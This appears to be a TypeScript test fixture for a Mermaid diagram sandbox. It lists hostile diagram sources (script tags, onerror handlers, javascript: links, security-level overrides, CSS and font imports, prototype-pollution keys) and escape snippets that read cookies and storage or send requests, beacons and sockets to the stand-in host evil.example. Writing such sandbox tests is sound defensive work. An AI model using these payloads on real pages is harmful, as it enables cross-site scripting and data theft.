/**
 * Sources of diagrams that try to leave their frame (S-112). What runs calls `hit()`; what is fetched goes to
 * `evil.example`.
 */
export const hostileDiagrams: Readonly<Record<string, string>> = {
  "script in a label": 'flowchart LR\n  A["<script>parent.hit()</script>"] --> B',
  "handler in a label": 'flowchart LR\n  A["<img src=x onerror=parent.hit()>"] --> B["<svg onload=parent.hit()>"]',
  "frame in a label": "flowchart LR\n  A[\"<iframe srcdoc='<script>top.hit()</script>'></iframe>\"] --> B",
  "javascript link": 'flowchart LR\n  A --> B\n  click A href "javascript:parent.hit()" _top',
  "foreign link": 'flowchart LR\n  A --> B\n  click A href "https://evil.example/" _top',
  callback: "flowchart LR\n  A --> B\n  click A call hit()",
  "loose security by directive":
    '%%{init: {"securityLevel": "loose", "flowchart": {"htmlLabels": true}}}%%\nflowchart LR\n  A["<img src=x onerror=parent.hit()>"] --> B\n  click A call hit()',
  "loose security by front matter":
    '---\nconfig:\n  securityLevel: loose\n  secure: []\n  htmlLabels: true\n---\nflowchart LR\n  A["<img src=https://evil.example/l.png onerror=parent.hit()>"] --> B',
  "style sheet by theme":
    '%%{init: {"themeCSS": "@import url(https://evil.example/a.css);"}}%%\nflowchart LR\n  A --> B',
  "style sheet by variable":
    '%%{init: {"theme": "base", "themeVariables": {"primaryColor": "red;} @import url(https://evil.example/v.css); a{"}}}%%\nflowchart LR\n  A --> B',
  "font by variable":
    '%%{init: {"fontFamily": "x;} @font-face{font-family:x;src:url(https://evil.example/f.woff)} *{font-family:x"}}%%\nflowchart LR\n  A --> B',
  "style with an address":
    "flowchart LR\n  A --> B\n  style A fill:url(https://evil.example/s.svg#x),background:url(https://evil.example/b.png)",
  "class with an address": "flowchart LR\n  A --> B\n  classDef a fill:url(https://evil.example/c.svg#x)\n  class A a",
  "foreign image": 'flowchart LR\n  A@{ img: "https://evil.example/i.png", label: "x" } --> B',
  "foreign icon": 'flowchart LR\n  A@{ icon: "evil:x", label: "x" } --> B["fa:fa-evil"]',
  "image in Markdown": 'flowchart LR\n  A["`![x](https://evil.example/m.png) [y](javascript:parent.hit())`"] --> B',
  "prototype by directive":
    '%%{init: {"__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}}}%%\nflowchart LR\n  A --> B',
  "prototype by name": "flowchart LR\n  __proto__ --> constructor\n  constructor --> toString",
  "class of a prototype": "classDiagram\n  class __proto__ {\n    +polluted() yes\n  }\n  __proto__ <|-- constructor",
  "sequence with markup":
    "sequenceDiagram\n  participant A as <img src=x onerror=parent.hit()>\n  A->>A: <script>parent.hit()</script>\n  link A: x @ javascript:parent.hit()",
  "state with markup": "stateDiagram-v2\n  [*] --> A\n  A : <img src=https://evil.example/st.png onerror=parent.hit()>",
  "pie with markup": 'pie title <script>parent.hit()</script>\n  "<img src=x onerror=parent.hit()>" : 3',
  "out of the style": "flowchart LR\n  A --> B\n  classDef a </style><script>parent.hit()</script>",
  "end of the document": 'flowchart LR\n  A["</svg></body></html><script>parent.hit()</script>"] --> B',
  "no diagram": "<script>parent.hit()</script>",
  "huge graph": `flowchart LR\n${Array.from({ length: 1500 }, (_, index) => `  n${index} --> n${(index * 7) % 1500}`).join("\n")}`,
  "deep graph": `flowchart LR\n${Array.from({ length: 120 }, (_, index) => `subgraph s${index}`).join("\n")}\nA\n${"end\n".repeat(120)}`,
};

/** Ways out of a document, for one whose library was already broken into. Each gives what it got, or why not. */
export const escapes: Readonly<Record<string, string>> = {
  "the document of the page": "parent.document.title",
  "a name of the page": "parent.hit()",
  storage: "localStorage.length",
  "a cookie": "document.cookie || Promise.reject(Error('none'))",
  "the API of the server": "fetch('/v1/conversations').then((answer) => answer.text())",
  "a foreign server": "fetch('https://evil.example/f', { mode: 'no-cors' })",
  "a beacon": "navigator.sendBeacon('https://evil.example/b') && Promise.reject(Error('a beacon tells nothing'))",
  "a socket":
    "new Promise((done, fail) => { const s = new WebSocket('wss://evil.example/w'); s.onopen = done; s.onerror = () => fail(Error('refused')); })",
  "an image":
    "new Promise((done, fail) => { const i = new Image(); i.onload = done; i.onerror = () => fail(Error('refused')); i.src = 'https://evil.example/i.png'; })",
  "a script":
    "new Promise((done, fail) => { const s = document.createElement('script'); s.onload = done; s.onerror = () => fail(Error('refused')); s.src = '/assets/x.js'; document.body.append(s); })",
  "code from a string":
    "new Promise((done, fail) => setTimeout(() => { try { done((0, eval)('1')); } catch (error) { fail(error); } }))",
  "a worker":
    "new Worker(URL.createObjectURL(new Blob(['1']))) && new Promise((_, fail) => setTimeout(() => fail(Error('refused')), 300))",
  "a window": "open('https://evil.example/o').location",
  "the page's address":
    "(top.location = 'https://evil.example/t') && new Promise((_, fail) => setTimeout(() => fail(Error('refused')), 300))",
  "its own address":
    "(location.href = 'https://evil.example/n') && new Promise((_, fail) => setTimeout(() => fail(Error('refused')), 300))",
};
